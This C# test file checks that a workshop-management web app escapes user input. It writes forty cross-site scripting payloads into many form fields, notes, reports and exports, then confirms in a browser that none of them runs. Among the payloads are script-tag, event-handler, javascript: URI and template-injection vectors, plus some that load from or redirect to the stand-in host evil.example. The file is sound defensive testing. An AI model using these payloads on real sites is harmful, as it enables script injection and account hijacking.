using System.IO.Compression;
using System.Net;
using System.Net.Http.Json;
using System.Text.Json.Nodes;
using System.Text.RegularExpressions;
using System.Xml.Linq;
using Hub.Domain.Notes;
using Hub.Tests.Findings;
using Hub.Tests.Machine;
using Hub.Tests.Notes;
using Hub.Web.Access;
using Hub.Web.Mail;
using Microsoft.EntityFrameworkCore;
using Xunit.Abstractions;

namespace Hub.Tests.Access;

/// <summary>
/// Forty ways to write a script into a field, in every field that takes text, seen in every page and export by a browser: none runs, and the browser
/// has nothing to report. Each payload goes through several fields and each field takes several payloads; what the content rules refuse stays outside.
/// </summary>
public sealed partial class XssTests(ITestOutputHelper output) : IAsyncLifetime
{
    private static readonly string[] Payloads =
    [
        "<script>top.hit=1</script>", "\"><script>top.hit=1</script>", "'><script>top.hit=1</script>", "</title><script>top.hit=1</script>", "</textarea><script>top.hit=1</script>",
        "</script><script>top.hit=1</script>", "<ScRiPt>top.hit=1</sCrIpT>", "<script/src=//evil.example/x>", "<svg onload=top.hit=1>", "<svg/onload=top.hit=1//",
        "\"><svg onload=top.hit=1>", "<svg><script>top.hit=1</script></svg>", "<svg><animate onbegin=top.hit=1 attributeName=x>", "<body onload=top.hit=1>", "<iframe srcdoc=\"<script>top.hit=1</script>\">",
        "<iframe src=javascript:top.hit=1>", "<object data=javascript:top.hit=1>", "<embed src=javascript:top.hit=1>", "<details open ontoggle=top.hit=1>", "<input autofocus onfocus=top.hit=1>",
        "<select autofocus onfocus=top.hit=1>", "<video><source onerror=top.hit=1>", "<audio src=x onerror=top.hit=1>", "<marquee onstart=top.hit=1>", "<a href=javascript:top.hit=1>x</a>",
        "[x](javascript:top.hit=1)", "<javascript:top.hit=1>", "[x]: javascript:top.hit=1", "\" onmouseover=\"top.hit=1", "' onfocus='top.hit=1' autofocus='",
        "x onfocus=top.hit=1 autofocus", "<style>@import '//evil.example'</style>", "<link rel=stylesheet href=//evil.example>", "<meta http-equiv=refresh content=0;url=//evil.example>", "<base href=//evil.example>",
        "<form action=//evil.example><input type=submit>", "<math><mtext><script>top.hit=1</script>", "<template><script>top.hit=1</script></template>", "{{constructor.constructor('top.hit=1')()}}", "@(top.hit=1)",
    ];

    private readonly Room _room = new();
    private readonly List<(string Field, bool Taken)> _seeded = [];
    private readonly HashSet<string> _taken = [];
    private string _address = "";

    public async Task InitializeAsync()
    {
        _address = _room.Hub.Listen();
        await _room.FurnishAsync(address: _address);
    }

    public async Task DisposeAsync() => await _room.DisposeAsync();

    [Fact]
    public void There_are_forty_payloads_and_none_twice() => Assert.Equal(40, Payloads.Distinct().Count());

    [NeedsFact("Chromium")]
    public async Task None_of_forty_payloads_runs_in_any_page_or_export_and_the_browser_reports_nothing()
    {
        var pages = await SeedAsync();
        foreach (var field in _seeded.GroupBy(s => s.Field)) Assert.True(field.Any(f => f.Taken), $"The field {field.Key} took none of its payloads: the test does not reach it.");
        Assert.Equal(40, _taken.Count);

        List<string> faults = [];
        await using var context = await Browser.OpenAsync(_address);
        await context.SetExtraHTTPHeadersAsync(new Dictionary<string, string> { ["Authorization"] = _room.Organiser.DefaultRequestHeaders.Authorization!.ToString() });
        await context.AddInitScriptAsync("addEventListener('securitypolicyviolation', e => (window.refused ??= []).push(e.violatedDirective + ' ' + e.blockedURI))");
        var page = await context.NewPageAsync();
        page.Dialog += async (_, dialog) => { faults.Add("dialog " + dialog.Message); await dialog.DismissAsync(); };
        page.Request += (_, request) => { if (request.Url.Contains("evil.example", StringComparison.Ordinal)) faults.Add("asked " + request.Url); };
        int seen = 0;
        foreach (string path in pages)
        {
            var answer = await page.GotoAsync(path, new() { WaitUntil = Microsoft.Playwright.WaitUntilState.DOMContentLoaded });
            if (answer!.Status != 200) faults.Add($"{answer.Status} {path}");
            if (await page.EvaluateAsync<bool>("top.hit !== undefined")) faults.Add("executed on " + path);
            string[] refused = await page.EvaluateAsync<string[]>("window.refused ?? []");
            if (refused.Length > 0) faults.Add($"{path} refused {string.Join(", ", refused)}");
            if ((await page.InnerTextAsync("body")).Contains("top.hit", StringComparison.Ordinal)) seen++;
        }

        output.WriteLine($"{Payloads.Length} payloads, {_seeded.Count} pairs with {_seeded.Select(s => s.Field).Distinct().Count()} fields ({_seeded.Count(s => s.Taken)} taken), {pages.Count} pages, {seen} of them show a payload as text, {faults.Count} faults, {_room.Hub.Get<CspReports>().All.Count} reports");
        Assert.True(faults.Count == 0, string.Join('\n', faults));
        Assert.Empty(_room.Hub.Get<CspReports>().All);
        Assert.True(seen > 15, $"Only {seen} pages show a payload: the walk looks past them.");
        await ExportsHoldTextAsync();
        await ReportsHoldTextAsync(page);
        await MailsAreTextAsync();
    }

    /// <summary>A report whose workshop is called all forty payloads: as a page of its own in a browser without any policy, as a text document and as a table.</summary>
    private async Task ReportsHoldTextAsync(Microsoft.Playwright.IPage page)
    {
        string title = string.Join(' ', Payloads);
        await using (var db = await _room.Hub.Db.CreateDbContextAsync()) await db.Workshops.Where(w => w.Id == _room.Workshop.Id).ExecuteUpdateAsync(s => s.SetProperty(w => w.Title, title));
        string report = $"/api/v1/reports/{Room.Id(await Room.PostAsync(_room.Organiser, $"/api/v1/workshops/{_room.Workshop.Id}/reports", new { kind = "Summary" }))}";

        string html = await _room.Organiser.GetStringAsync(report + ".html");
        await page.GotoAsync("about:blank");
        await page.SetContentAsync(html);
        Assert.False(await page.EvaluateAsync<bool>("top.hit !== undefined"));
        Assert.Contains(title, (await page.TextContentAsync("body"))!, StringComparison.Ordinal);
        Assert.Equal(0, await page.Locator("script, iframe, object, embed, base, form, input, svg script, meta[http-equiv=refresh], link[href*='evil.example'], a[href^='javascript:']").CountAsync());

        using var docx = new ZipArchive(new MemoryStream(await _room.Organiser.GetByteArrayAsync(report + ".docx")));
        string text = "";
        foreach (var part in docx.Entries.Where(e => e.Name.EndsWith(".xml", StringComparison.Ordinal) || e.Name.EndsWith(".rels", StringComparison.Ordinal)))
        {
            await using var stream = await part.OpenAsync();
            var xml = await XDocument.LoadAsync(stream, LoadOptions.PreserveWhitespace, default);
            Assert.DoesNotContain(xml.Descendants(), e => e.Name.LocalName is "hyperlink" or "instrText" || e.Attributes().Any(a => a.Name.LocalName == "instr" && a.Value is not ("PAGE" or "NUMPAGES")) || (string?)e.Attribute("TargetMode") == "External");
            if (part.FullName == "word/document.xml") text = xml.Root!.Value;
        }

        Assert.Contains(title, text, StringComparison.Ordinal);
        foreach (string path in new[] { report + ".csv", $"/api/v1/workshops/{_room.Workshop.Id}/case-sets.csv" })
        {
            string csv = await _room.Organiser.GetStringAsync(path);
            Assert.Contains("top.hit", csv, StringComparison.Ordinal);
            Assert.DoesNotMatch(FormulaCell(), csv);
        }
    }

    /// <summary>The invitations of people who are called payloads: text alone, one line of subject, and the names as they are.</summary>
    private async Task MailsAreTextAsync()
    {
        await using var db = await _room.Hub.Db.CreateDbContextAsync();
        var invited = await db.Participants.Where(p => p.WorkshopId == _room.Workshop.Id && p.State == Hub.Domain.Roster.ParticipantState.Nominated).Select(p => p.Id).ToListAsync();
        await Room.PostAsync(_room.Organiser, $"/api/v1/workshops/{_room.Workshop.Id}/participants/invite", new { participantIds = invited });

        var mails = await db.OutboxMails.AsNoTracking().ToListAsync();
        Assert.Contains(mails, m => m.Body.Contains("top.hit", StringComparison.Ordinal));
        foreach (var mail in mails)
        {
            using var message = MailComposer.Compose(mail, mail.Body, new SmtpSettings());
            Assert.False(message.IsBodyHtml);
            Assert.DoesNotContain(message.AlternateViews, v => v.ContentType.MediaType == "text/html");
            Assert.DoesNotContain('\n', message.Subject);
        }
    }

    /// <summary>Files open in other programs: nothing in them is markup, and no cell is a formula.</summary>
    private async Task ExportsHoldTextAsync()
    {
        string csv = await _room.Organiser.GetStringAsync($"/api/v1/workshops/{_room.Workshop.Id}/case-sets.csv");
        Assert.Contains("top.hit", csv, StringComparison.Ordinal);
        Assert.DoesNotContain("\n\"@(", csv, StringComparison.Ordinal);
        using var openapi = await _room.Organiser.GetAsync("/openapi/v1.json");
        Assert.Equal(HttpStatusCode.OK, openapi.StatusCode);
    }

    private async Task<List<string>> SeedAsync()
    {
        string w = $"/api/v1/workshops/{_room.Workshop.Id}", set = $"/api/v1/case-sets/{_room.Set.Id}", host = _room.Host.ShortName;
        await using (var db = await _room.Hub.Db.CreateDbContextAsync())
        {
            // Names come with people, past the content rules of the domain.
            int i = 0;
            foreach (var person in await db.Users.Where(u => u.DisplayName != "Anna" && u.DisplayName != "Organiser").ToListAsync()) person.DisplayName = Payloads[i++ * 5];
            await db.SaveChangesAsync();
        }

        (string Field, HttpClient By, string Url, Func<string, object> Body)[] fields =
        [
            ("organisation name", _room.Organiser, "/api/v1/organisations", p => new { name = p, shortName = "O" + Guid.NewGuid().ToString()[..8], kind = "Police", countryCode = "FR" }),
            ("organisation short name", _room.Organiser, "/api/v1/organisations", p => new { name = "Police", shortName = Cut(p, 40), kind = "Police", countryCode = "FR" }),
            ("programme name", _room.Organiser, "/api/v1/programmes", p => new { name = p }),
            ("team name", _room.Organiser, w + "/teams", p => new { name = Cut(p, 60) }),
            ("team room", _room.Organiser, w + "/teams", p => new { name = "T" + Guid.NewGuid().ToString()[..8], room = Cut(p, 60) }),
            ("room", _room.Organiser, w + "/rooms", p => new { name = Cut(p, 60) }),
            ("session title", _room.Organiser, w + "/sessions", p => new { title = p, kind = "Other", day = $"{_room.Workshop.FirstDay:yyyy-MM-dd}", start = "09:00", end = "10:00" }),
            ("participant name", _room.Organiser, w + "/participants", p => new { name = p, email = Guid.NewGuid().ToString("N")[..12] + "@example.org", organisation = host, countryCode = "IT", role = "Specialist" }),
            ("participant unit", _room.Organiser, w + "/participants", p => new { name = "Specialist", email = Guid.NewGuid().ToString("N")[..12] + "@example.org", organisation = host, countryCode = "IT", role = "Specialist", unit = p }),
            ("set title", _room.Organiser, w + "/case-sets", p => new { title = p, owner = host, images = 1, videos = 0, intensity = 1, priority = 1, marking = new { tlp = "Amber", hCode = "H0" } }),
            ("set handling text", _room.Organiser, w + "/case-sets", p => new { title = "Harbour", owner = host, images = 1, videos = 0, intensity = 1, priority = 1, marking = new { tlp = "Amber", hCode = "H3", h3Text = p } }),
            ("finding", _room.Anna, set + "/findings", p => Room.Finding(p)),
            ("object title", _room.Anna, set + "/objects", p => new { title = p, objectType = "Bag", publicQuestion = "Where?", custodian = "Police DE", custodianRef = "DE-1" }),
            ("object type", _room.Anna, set + "/objects", p => new { title = "Bag", objectType = Cut(p, 60), publicQuestion = "Where?", custodian = "Police DE", custodianRef = "DE-1" }),
            ("public question", _room.Anna, set + "/objects", p => new { title = "Bag", objectType = "Bag", publicQuestion = p, custodian = "Police DE", custodianRef = "DE-1" }),
            ("custodian reference", _room.Anna, set + "/objects", p => new { title = "Bag", objectType = "Bag", publicQuestion = "Where?", custodian = "Police DE", custodianRef = p }),
            ("lesson title", _room.Anna, w + "/lessons", p => new { kind = "Teamwork", title = p, text = "Hand over." }),
            ("lesson text", _room.Anna, w + "/lessons", p => new { kind = "Teamwork", title = "Handover", text = p }),
            ("referral channel reference", _room.Anna, w + "/referrals", p => new { recipientCountry = "RO", caseSetIds = new[] { _room.Set.Id }, purpose = "Investigate", channel = "SIENA", channelRef = p }),
            ("campaign source", _room.Organiser, "/api/v1/campaign-figures", p => new { asOf = "2021-11-30", tips = 27000, victimsIdentified = 23, sourceUrl = p }),
        ];
        for (int i = 0; i < Payloads.Length; i++)
            foreach (int f in new[] { i % fields.Length, (i * 7 + 3) % fields.Length }.Distinct())
            {
                var (field, by, url, body) = fields[f];
                using var answer = await by.PostAsJsonAsync(url, body(Payloads[i]));
                Assert.True((int)answer.StatusCode < 500, $"{field} failed with {(int)answer.StatusCode} on {Payloads[i]}");
                if (answer.IsSuccessStatusCode) _taken.Add(Payloads[i]);
                _seeded.Add((field, answer.IsSuccessStatusCode));
            }

        var pages = await NotesAsync();
        string shown = $"/workshops/{_room.Workshop.Id}";
        string determination = (await _room.ProposedAsync()).ToString(), victim = (await _room.VictimAsync()).ToString();
        await Room.OkAsync(_room.OutcomeAsync(Guid.Parse(victim), "Localised", more: new { source = Payloads[8] }));
        await using var look = await _room.Hub.Db.CreateDbContextAsync();
        var sets = await look.CaseSets.Where(s => s.WorkshopId == _room.Workshop.Id && s.Title.Contains("top.hit")).Select(s => s.Id).Take(2).ToListAsync();
        var team = await look.Teams.Where(t => t.WorkshopId == _room.Workshop.Id && t.Name.Contains("top.hit")).Select(t => t.Id).FirstAsync();
        var finding = await look.Findings.Select(f => f.Id).FirstAsync();
        var item = await look.TraceableObjects.Where(o => o.NeutralTitle.Contains("top.hit")).Select(o => o.Id).FirstAsync();
        var referral = await look.Referrals.Select(r => r.Id).FirstAsync();
        var seat = await look.Participants.Where(p => p.WorkshopId == _room.Workshop.Id && p.Unit != null).Select(p => p.Id).FirstAsync();
        var session = await look.Sessions.Select(s => s.Id).FirstAsync();
        var programme = await look.Programmes.Select(p => p.Id).FirstAsync();
        return
        [
            "/", "/organisations", "/programmes", $"/programmes/{programme}", "/campaign-figures", "/search?q=top.hit", "/search?q=" + Uri.EscapeDataString(Payloads[1]), "/inbox", "/profile",
            shown, shown + "/roster", shown + "/roster?q=" + Uri.EscapeDataString(Payloads[1]), $"{shown}/roster/{seat}", shown + "/badges", shown + "/check-in", shown + "/check-in/list", shown + "/fallback", shown + "/teams", $"{shown}/teams/{team}", $"{shown}/teams/{team}/edit",
            shown + "/agenda", shown + "/agenda/rooms", $"{shown}/agenda/sessions/{session}", shown + "/agenda/wall", shown + "/agenda/release", shown + "/wall", shown + "/set-up", shown + "/clone", shown + "/reminders", shown + "/outbox", shown + "/rooms",
            shown + "/case-sets", shown + "/case-sets?q=" + Uri.EscapeDataString(Payloads[1]), $"{shown}/case-sets/{_room.Set.Id}", .. sets.SelectMany(s => new[] { $"{shown}/case-sets/{s}", $"{shown}/case-sets/{s}/edit" }), shown + "/assignment",
            shown + "/findings", $"{shown}/findings/{finding}", shown + "/objects", $"{shown}/objects/{item}", shown + "/lessons", shown + "/referrals", $"{shown}/referrals/{referral}", shown + "/referrals/new", shown + "/review", $"{shown}/review/{determination}",
            shown + "/outcomes", $"{shown}/outcomes/victims/{victim}", shown + "/icse", shown + "/reports", shown + "/welfare", shown + "/audit", shown + "/retention", shown + "/notes", shown + "/notes/search?q=top", .. pages,
        ];
    }

    /// <summary>All payloads that the content rules take, as lines of the workshop's note.</summary>
    private async Task<IEnumerable<string>> NotesAsync()
    {
        Note note;
        HubUser anna;
        await using (var db = await _room.Hub.Db.CreateDbContextAsync())
        {
            db.Add(note = Note.For(Guid.CreateVersion7(), _room.Workshop));
            await db.SaveChangesAsync();
            anna = await db.Users.SingleAsync(u => u.DisplayName == "Anna");
        }

        string token = _room.Anna.DefaultRequestHeaders.Authorization!.Parameter!;
        Assert.NotNull(anna);
        await using var socket = await NotesSocket.ConnectAsync(new Uri(new Uri(_address), "/hubs/notes"), token);
        var joined = await socket.JoinAsync(note.Id);
        int version = (int)joined!["version"]!, length = ((string)joined["text"]!).Length, sequence = 0;
        foreach (string payload in Payloads)
        {
            string line = payload + "\n\n";
            var pushed = await socket.PushAsync(note.Id, version, "c1", ++sequence, TextChange.Replace(length, length, 0, line));
            bool taken = pushed!["refused"] is not JsonObject;
            _seeded.Add(("note", taken));
            if (!taken) continue;
            _taken.Add(payload);
            version = (int)pushed["version"]!;
            length += line.Length;
        }

        return [$"/workshops/{_room.Workshop.Id}/notes/{note.Id}/print"];
    }

    [GeneratedRegex("(?m)(?:^|,)\"?[=@\\t]")]
    private static partial Regex FormulaCell();

    private static string Cut(string text, int most) => text.Length <= most ? text : text[..most];
}
